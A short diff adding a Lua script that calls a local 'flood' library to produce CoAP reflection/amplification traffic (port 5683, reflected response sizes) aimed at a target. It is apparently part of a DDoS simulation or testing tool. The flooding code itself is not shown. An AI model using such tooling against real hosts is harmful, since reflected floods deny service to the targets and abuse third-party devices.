@@ -1,0 +1,5 @@
+-- Answers of coap reflectors that the target never asked.
+local here = debug.getinfo(1, "S").source:match("^@(.*/)") or "./"
+local flood = dofile(here .. "lib/flood.lua")
+
+flood.amplification({ name = "coap", port = 5683, size = { 346, 1046 } })
